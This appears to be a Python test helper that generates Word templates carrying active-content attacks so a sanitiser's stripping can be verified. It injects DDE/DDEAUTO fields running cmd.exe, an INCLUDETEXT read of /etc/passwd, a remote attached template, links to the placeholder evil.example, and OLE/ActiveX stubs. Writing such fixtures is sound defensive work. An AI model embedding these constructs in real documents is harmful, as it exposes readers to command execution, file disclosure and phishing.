"""House Word templates carrying active content, built from the example house template.

Each attack is injected with zipfile + lxml into 县委办讲话稿模板.docx, whose body is first
given a frame around a ``{{讲稿}}`` marker (kept text before and after it), so an attack in
the frame reaches the speech unless it is stripped. :func:`hostile_template` builds a
template with the attacks named (all of them by default); :data:`FRAME_TEXTS` and
:data:`HEADER_TEXT` are what must survive in the output.
"""

from __future__ import annotations

import os
import zipfile
from pathlib import Path

from conftest import ROOT
from lxml import etree

BASE = ROOT / "examples" / "house-template" / "县委办讲话稿模板.docx"

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
W = f"{{{W_NS}}}"
NAMESPACES = (
    f'xmlns:w="{W_NS}" xmlns:r="{R_NS}" xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
)

FRAME_TEXTS = ("中共某某县委办公室文件", "单位网站", "自定义XML包着的框内文字", "（此件公开发布）")
"""Frame text around the marker that must come through (the hyperlink and custom XML text as plain text)."""
HEADER_TEXT = "中共某某县委办公室"
FIELD_RESULTS = ("框内域结果", "页眉域结果")
"""The displayed results of stripped fields, kept as plain text."""
ATTACKER = "http://evil.example"

ATTACKS = (
    "attached_template",
    "dde_simple",
    "dde_footer",
    "include_text_header",
    "include_picture",
    "external_image",
    "external_frame",
    "hyperlink",
    "vml_href",
    "alt_chunk",
    "ole_object",
    "activex",
    "custom_xml",
)

EXPECTED_NOTES = {
    "attached_template": ("挂接了外部模板（http://evil.example/x.dotm）",),
    "dde_simple": ("DDEAUTO 域",),
    "dde_footer": ("DDE 域",),
    "include_text_header": ("INCLUDETEXT 域",),
    "include_picture": ("INCLUDEPICTURE 域", "外部链接"),
    "external_image": ("外部链接",),
    "external_frame": ("外部链接",),
    "hyperlink": ("外部链接",),
    "vml_href": ("外部链接",),
    "alt_chunk": ("altChunk",),
    "ole_object": ("OLE 对象",),
    "activex": ("ActiveX 控件",),
    "custom_xml": ("自定义 XML",),
}
"""A piece of each 提示 an attack brings (one per kind: a linked picture is a field and an external link)."""

_PARSER = etree.XMLParser(resolve_entities=False, no_network=True)


class Package:
    """A .docx as parts in memory, with helpers to add parts, relationships and XML."""

    def __init__(self, source: Path = BASE):
        with zipfile.ZipFile(source) as archive:
            self.parts = {name: archive.read(name) for name in archive.namelist()}
        self.counter = 100

    def xml(self, name: str):
        return etree.fromstring(self.parts[name], _PARSER)

    def put_xml(self, name: str, root) -> None:
        self.parts[name] = etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)

    def add_part(self, name: str, data: bytes, content_type: str) -> None:
        self.parts[name] = data
        types = self.xml("[Content_Types].xml")
        etree.SubElement(types, f"{{{CT_NS}}}Override", PartName="/" + name, ContentType=content_type)
        self.put_xml("[Content_Types].xml", types)

    def add_rel(self, source: str, kind: str, target: str, *, external: bool = False) -> str:
        """A relationship from part *source* (e.g. ``word/document.xml``); its new id."""
        folder, base = os.path.split(source)
        rels = f"{folder}/_rels/{base}.rels"
        root = (
            self.xml(rels)
            if rels in self.parts
            else etree.Element(f"{{{RELS_NS}}}Relationships", nsmap={None: RELS_NS})
        )
        self.counter += 1
        rel_id = f"rIdEvil{self.counter}"
        rel = etree.SubElement(root, f"{{{RELS_NS}}}Relationship", Id=rel_id, Type=kind, Target=target)
        if external:
            rel.set("TargetMode", "External")
        self.put_xml(rels, root)
        return rel_id

    def append_paragraphs(self, part: str, fragment: str, *, before_marker: bool = False) -> None:
        """Add the ``w:`` XML *fragment* (paragraphs or body-level elements) to the body of
        *part*: just after the ``{{讲稿}}`` marker, or at the end of a header or footer."""
        root = self.xml(part)
        elements = list(etree.fromstring(f"<w:wrap {NAMESPACES}>{fragment}</w:wrap>", _PARSER))
        body = root.find(W + "body")
        if body is None:
            for element in elements:
                root.append(element)
        else:
            marker = next(p for p in body.iter(W + "p") if "".join(p.itertext()) == "{{讲稿}}")
            for element in reversed(elements):
                (marker.addprevious if before_marker else marker.addnext)(element)
        self.put_xml(part, root)

    def save(self, path: Path) -> Path:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in self.parts.items():
                archive.writestr(name, data)
        return path


def _paragraph(inner: str) -> str:
    return f"<w:p><w:pPr><w:pStyle w:val='讲话正文'/></w:pPr>{inner}</w:p>"


def _run(text: str) -> str:
    return f"<w:r><w:t>{text}</w:t></w:r>"


def _complex_field(instruction: str, result: str) -> str:
    return (
        "<w:r><w:fldChar w:fldCharType='begin'/></w:r>"
        f"<w:r><w:instrText xml:space='preserve'> {instruction[:6]}</w:instrText></w:r>"
        f"<w:r><w:instrText xml:space='preserve'>{instruction[6:]} </w:instrText></w:r>"
        f"<w:r><w:fldChar w:fldCharType='separate'/></w:r>{result}<w:r><w:fldChar w:fldCharType='end'/></w:r>"
    )


def _picture(blip: str) -> str:
    return (
        "<w:r><w:drawing><wp:inline><wp:extent cx='914400' cy='914400'/><wp:docPr id='901' name='图'/>"
        "<a:graphic><a:graphicData uri='http://schemas.openxmlformats.org/drawingml/2006/picture'>"
        "<pic:pic><pic:nvPicPr><pic:cNvPr id='901' name='图'/><pic:cNvPicPr/></pic:nvPicPr>"
        f"<pic:blipFill><a:blip {blip}/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>"
        "<pic:spPr><a:xfrm><a:off x='0' y='0'/><a:ext cx='914400' cy='914400'/></a:xfrm>"
        "<a:prstGeom prst='rect'><a:avLst/></a:prstGeom></pic:spPr></pic:pic>"
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
    )


def _frame(package: Package) -> None:
    """Replace the template's sample body by a frame: a red header line, the marker, a closing line."""
    root = package.xml("word/document.xml")
    body = root.find(W + "body")
    for child in list(body):
        if child.tag != W + "sectPr":
            body.remove(child)
    fragment = (
        _paragraph(_run(FRAME_TEXTS[0]))
        + _paragraph(_run("{{讲稿}}"))
        + f"<w:p><w:pPr><w:pStyle w:val='署名'/></w:pPr>{_run(FRAME_TEXTS[3])}</w:p>"
    )
    for element in reversed(list(etree.fromstring(f"<w:wrap {NAMESPACES}>{fragment}</w:wrap>", _PARSER))):
        body.insert(0, element)
    package.put_xml("word/document.xml", root)


# -- the attacks --------------------------------------------------------------------------------------------
def attached_template(package: Package) -> None:
    rel_id = package.add_rel("word/settings.xml", REL + "attachedTemplate", f"{ATTACKER}/x.dotm", external=True)
    settings = package.xml("word/settings.xml")
    zoom = settings.find(W + "zoom")
    attached = etree.Element(W + "attachedTemplate")
    attached.set(f"{{{R_NS}}}id", rel_id)
    zoom.addnext(attached)
    attached.addnext(etree.Element(W + "linkStyles"))
    package.put_xml("word/settings.xml", settings)


def dde_simple(package: Package) -> None:
    instruction = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'
    package.append_paragraphs(
        "word/document.xml", _paragraph(f"<w:fldSimple w:instr='{instruction}'>{_run(FIELD_RESULTS[0])}</w:fldSimple>")
    )


def dde_footer(package: Package) -> None:
    field = _complex_field('DDE "c:\\\\windows\\\\system32\\\\cmd.exe" "/c calc"', _run("页脚域结果"))
    package.append_paragraphs("word/footer1.xml", f"<w:p>{field}</w:p>")


def include_text_header(package: Package) -> None:
    field = _complex_field('INCLUDETEXT "file:///etc/passwd"', _run(FIELD_RESULTS[1]))
    package.append_paragraphs("word/header1.xml", f"<w:p>{field}</w:p>")


def include_picture(package: Package) -> None:
    rel_id = package.add_rel("word/document.xml", REL + "image", f"{ATTACKER}/p.png", external=True)
    field = _complex_field(f'INCLUDEPICTURE "{ATTACKER}/p.png" \\d', _picture(f"r:link='{rel_id}'"))
    package.append_paragraphs("word/document.xml", _paragraph(field))


def external_image(package: Package) -> None:
    rel_id = package.add_rel("word/header1.xml", REL + "image", "file:///C:/Windows/secret.png", external=True)
    shape = (
        "<w:r><w:pict><v:shape id='_x0000_s2049' style='width:20pt;height:20pt'>"
        f"<v:imagedata r:id='{rel_id}' o:title=''/></v:shape></w:pict></w:r>"
    )
    package.append_paragraphs("word/header1.xml", f"<w:p>{shape}</w:p>")


def external_frame(package: Package) -> None:
    rel_id = package.add_rel("word/webSettings.xml", REL + "frame", "file:///C:/frames/evil.htm", external=True)
    web = package.xml("word/webSettings.xml")
    frameset = etree.fromstring(
        f"<w:frameset {NAMESPACES}><w:frame><w:name w:val='f1'/><w:sourceFileName r:id='{rel_id}'/></w:frame></w:frameset>",
        _PARSER,
    )
    web.insert(0, frameset)
    package.put_xml("word/webSettings.xml", web)


def hyperlink(package: Package) -> None:
    rel_id = package.add_rel("word/document.xml", REL + "hyperlink", f"{ATTACKER}/phish", external=True)
    package.append_paragraphs(
        "word/document.xml",
        _paragraph(f"<w:hyperlink r:id='{rel_id}'>{_run(FRAME_TEXTS[1])}</w:hyperlink>"),
        before_marker=True,
    )


def vml_href(package: Package) -> None:
    """A VML shape in the header that is itself a link (no relationship involved)."""
    shape = (
        f"<w:r><w:pict><v:rect id='_x0000_s2050' href='{ATTACKER}/click' o:href='file:///C:/x.exe' "
        "style='width:20pt;height:20pt'/></w:pict></w:r>"
    )
    package.append_paragraphs("word/header1.xml", f"<w:p>{shape}</w:p>")


def alt_chunk(package: Package) -> None:
    package.add_part("word/afchunk1.htm", b"<html><body><p>alt chunk</p></body></html>", "text/html")
    rel_id = package.add_rel("word/document.xml", REL + "aFChunk", "afchunk1.htm")
    package.append_paragraphs("word/document.xml", f"<w:altChunk r:id='{rel_id}'/>")


def ole_object(package: Package) -> None:
    package.add_part(
        "word/embeddings/oleObject1.bin",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504,
        "application/vnd.openxmlformats-officedocument.oleObject",
    )
    rel_id = package.add_rel("word/document.xml", REL + "oleObject", "embeddings/oleObject1.bin")
    obj = (
        "<w:r><w:object w:dxaOrig='1440' w:dyaOrig='1440'><v:shape id='_x0000_i1025' style='width:20pt;height:20pt'/>"
        f"<o:OLEObject Type='Embed' ProgID='Package' ShapeID='_x0000_i1025' DrawAspect='Icon' ObjectID='_1' r:id='{rel_id}'/>"
        "</w:object></w:r>"
    )
    package.append_paragraphs("word/document.xml", _paragraph(obj))


def activex(package: Package) -> None:
    package.add_part(
        "word/activeX/activeX1.xml",
        b'<?xml version="1.0" encoding="UTF-8" standalone="no"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        b'ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStorage" r:id="rId1" '
        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>',
        "application/vnd.ms-office.activeX+xml",
    )
    package.add_part("word/activeX/activeX1.bin", b"\0" * 512, "application/vnd.ms-office.activeX")
    package.add_rel(
        "word/activeX/activeX1.xml",
        "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary",
        "activeX1.bin",
    )
    rel_id = package.add_rel("word/document.xml", REL + "control", "activeX/activeX1.xml")
    control = (
        "<w:r><w:object><v:shape id='_x0000_i1026' style='width:40pt;height:20pt'/>"
        f"<w:control r:id='{rel_id}' w:name='CommandButton1' w:shapeid='_x0000_i1026'/></w:object></w:r>"
    )
    package.append_paragraphs("word/document.xml", _paragraph(control))


def custom_xml(package: Package) -> None:
    package.add_part("customXml/item2.xml", "<数据><密级>机密</密级></数据>".encode(), "application/xml")
    package.add_rel("word/document.xml", REL + "customXml", "../customXml/item2.xml")
    wrapped = f"<w:customXml w:element='机关'><w:customXmlPr><w:attr w:name='a' w:val='b'/></w:customXmlPr>{_paragraph(_run(FRAME_TEXTS[2]))}</w:customXml>"
    package.append_paragraphs("word/document.xml", wrapped, before_marker=True)


def big_image(package: Package, megabytes: float = 25) -> None:
    """An incompressible image of *megabytes* in the header (no zip bomb: it is as big packed)."""
    package.parts["word/media/image1.png"] = b"\x89PNG\r\n\x1a\n" + os.urandom(int(megabytes * 1024 * 1024))
    rel_id = package.add_rel("word/header1.xml", REL + "image", "media/image1.png")
    package.append_paragraphs("word/header1.xml", f"<w:p>{_picture(f'r:embed={chr(39)}{rel_id}{chr(39)}')}</w:p>")
    types = package.xml("[Content_Types].xml")
    etree.SubElement(types, f"{{{CT_NS}}}Default", Extension="png", ContentType="image/png")
    package.put_xml("[Content_Types].xml", types)


def hostile_template(folder: Path, attacks=ATTACKS, name: str = "恶意模板.docx") -> Path:
    """A house template in *folder* with the frame and each of *attacks* (names in :data:`ATTACKS`)."""
    package = Package()
    _frame(package)
    for attack in attacks:
        globals()[attack](package)
    return package.save(folder / name)


def framed_template(folder: Path, name: str = "框架模板.docx") -> Path:
    """The same frame without any attack: what a clean template of this shape gives."""
    return hostile_template(folder, (), name)


def big_image_template(folder: Path, megabytes: float = 25, name: str = "大图模板.docx") -> Path:
    package = Package()
    big_image(package, megabytes)
    return package.save(folder / name)
